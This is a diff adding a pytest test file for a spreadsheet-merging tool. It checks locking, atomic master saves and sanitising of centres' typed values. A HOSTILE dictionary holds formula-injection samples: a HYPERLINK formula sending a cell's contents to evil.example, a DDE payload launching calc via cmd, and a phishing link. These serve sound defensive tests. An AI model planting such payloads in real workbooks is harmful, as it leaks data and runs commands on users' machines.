@@ -1,0 +1,184 @@
+"""Nothing lost, nothing run: atomic writes, the workspace lock, a master open in
+Excel, and what a centre typed arriving in the master as plain values."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+from returns import ECONOMY, SMILEY, STATUS, AsText, fill
+
+import xlfollow.files
+from xlfollow.cli import cli
+from xlfollow.errors import WorkspaceError
+from xlfollow.ledger import Ledger
+from xlfollow.workspace import Workspace
+
+SOS = "outbox/round-1/03-social-og-sundhed.xlsx"
+
+
+@pytest.fixture
+def ws(tmp_path: Path) -> Workspace:
+    workspace = Workspace.init(tmp_path / "ws", "ballerup-2018")
+    workspace.issue("1")
+    fill(workspace.path / SOS, workspace.path / "inbox" / "a.xlsx", {("3.01", SMILEY): "grøn"})
+    workspace.merge()
+    return workspace
+
+
+def ledger_answers(workspace: Workspace) -> dict[tuple[str, str, str], str]:
+    with Ledger(workspace.ledger_path) as ledger:
+        return ledger.answers()
+
+
+HOLD = """
+import sys, time
+from pathlib import Path
+from xlfollow.files import locked
+with locked(Path(sys.argv[1]), "merge"):
+    print("held", flush=True)
+    time.sleep(30)
+"""
+
+
+def test_a_second_merge_is_told_another_command_holds_the_workspace(ws: Workspace) -> None:
+    holder = subprocess.Popen(
+        [sys.executable, "-c", HOLD, str(ws.path)], stdout=subprocess.PIPE, text=True
+    )
+    try:
+        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
+        fill(ws.path / SOS, ws.path / "inbox" / "b.xlsx", {("3.01", SMILEY): "rød"})
+        result = CliRunner().invoke(cli, ["merge", str(ws.path)])
+        assert result.exit_code == 1
+        assert f"xlfollow merge (process {holder.pid}, since " in result.stderr
+        assert "is changing this workspace; wait for it to finish" in result.stderr
+        assert ledger_answers(ws)[("1. budgetopfølgning 2018", "3.01", "milestone")] == "met"
+    finally:
+        holder.kill()
+        holder.wait()
+    # Once the holder is gone, so is its lock (even though it was killed).
+    assert ws.merge().files[0].verdict == "accepted"
+
+
+def test_a_master_open_in_excel_stops_the_merge_before_the_ledger_changes(
+    ws: Workspace, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    master = ws.path / "master.xlsx"
+    before = master.read_bytes()
+    answers = ledger_answers(ws)
+
+    def shared_violation(path: Path) -> object:
+        raise PermissionError(13, "The process cannot access the file", str(path))
+
+    # Excel on Windows keeps the file open without sharing it for writing.
+    monkeypatch.setattr(xlfollow.files, "_open_for_update", shared_violation)
+    fill(ws.path / SOS, ws.path / "inbox" / "b.xlsx", {("3.01", SMILEY): "rød"})
+    with pytest.raises(WorkspaceError, match="open in another program \\(Excel\\?\\)"):
+        ws.merge()
+    assert master.read_bytes() == before
+    assert ledger_answers(ws) == answers
+    with Ledger(ws.ledger_path) as ledger:
+        assert [r.file for r in ledger.receipts()] == ["inbox/a.xlsx"]
+
+
+KILL_DURING_SAVE = """
+import os, sys
+from pathlib import Path
+import xlfollow.files
+from xlfollow.workspace import Workspace
+
+def killed(source, target):
+    os._exit(9)  # the new master is written and synced, but not yet in place
+
+xlfollow.files.os.replace = killed
+Workspace(Path(sys.argv[1])).write_master()
+"""
+
+
+def test_a_master_save_killed_half_way_leaves_the_old_master(ws: Workspace) -> None:
+    master = ws.path / "master.xlsx"
+    before = master.read_bytes()
+    run = subprocess.run([sys.executable, "-c", KILL_DURING_SAVE, str(ws.path)], check=False)
+    assert run.returncode == 9
+    assert master.read_bytes() == before
+    assert "Overblik" in openpyxl.load_workbook(master, read_only=True).sheetnames
+    (stray,) = [p.name for p in ws.path.iterdir() if p.name.endswith(".partial")]
+    assert stray.startswith(".master.xlsx.")
+    # The next command that changes the workspace clears it away.
+    ws.summary()
+    assert [p for p in ws.path.iterdir() if p.name.endswith(".partial")] == []
+
+
+def test_a_written_workbook_that_does_not_read_back_is_not_put_in_place(tmp_path: Path) -> None:
+    target = tmp_path / "master.xlsx"
+    target.write_bytes(b"old")
+    with pytest.raises(OSError, match="does not read back"):
+        xlfollow.files.write_atomically(target, b"PK\x03\x04 not a zip")
+    assert target.read_bytes() == b"old"
+    assert os.listdir(tmp_path) == ["master.xlsx"]
+
+
+HOSTILE = {
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Klik her")',
+    "dde": "=cmd|' /C calc'!A0",
+    "plus": "+SUM(1,2)",
+    "at": "@SUM(1)",
+    "link": "http://evil.example/phish",
+    "tab": "\tindrykket",
+    "control": "CONTROL",  # becomes control characters in the file's XML, below
+}
+
+
+def with_control_characters(path: Path) -> None:
+    """Put control characters in a saved workbook the way the format escapes them."""
+    with zipfile.ZipFile(path) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    (name,) = [name for name, data in parts.items() if b">CONTROL<" in data]
+    parts[name] = parts[name].replace(b">CONTROL<", b">Status_x0001_med_x0007_tegn<")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+
+
+def test_what_a_centre_typed_reaches_the_master_as_plain_text(ws: Workspace) -> None:
+    items = ["3.01", "3.33.1", "3.33.2", "3.33.3", "4.02", "4.03", "4.04"]  # Social og Sundhed's
+    typed: dict[tuple[str, str], object] = {
+        (item, STATUS): AsText(text) for item, text in zip(items, HOSTILE.values(), strict=True)
+    }
+    typed[("3.01", ECONOMY)] = "grøn"
+    returned = fill(ws.path / SOS, ws.path / "inbox" / "hostile.xlsx", typed)
+    with_control_characters(returned)
+    (file,) = ws.merge([returned]).files
+    assert file.verdict == "accepted", file.reason
+    assert file.cells["refused"] == 0, file.problems
+    # Each text that a spreadsheet could take for a formula is named in the report.
+    flagged = [n for n in file.notes if "kept and shown as text, never as a formula" in n]
+    assert len(flagged) == 5, file.notes  # =, =, +, @ and the tab
+    stored = ledger_answers(ws)
+    round_name = "1. budgetopfølgning 2018"
+    assert stored[(round_name, "3.01", "milestone_note")] == HOSTILE["formula"]
+    master = ws.path / "master.xlsx"
+    book = openpyxl.load_workbook(master)
+    chapters = [book[name] for name in book.sheetnames if name[0].isdigit()]
+    shown = set()
+    for chapter in chapters:  # every chapter sheet: where the centres' texts are shown
+        for row in chapter.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (chapter.title, cell.coordinate, cell.value)
+                assert cell.hyperlink is None, (chapter.title, cell.coordinate)
+                shown.add(str(cell.value))
+    assert {HOSTILE["formula"], HOSTILE["dde"], HOSTILE["link"], HOSTILE["at"]} <= shown
+    # The control characters are stored escaped, so the workbook stays valid XML.
+    with zipfile.ZipFile(master) as archive:
+        assert archive.testzip() is None
+        strings = archive.read("xl/sharedStrings.xml")
+        rels = [archive.read(n) for n in archive.namelist() if n.endswith(".rels")]
+    assert b"\x01" not in strings and b"_x0001_" in strings
+    # No part of the master links anywhere but to its own sheets.
+    assert not any(b'TargetMode="External"' in r for r in rels)
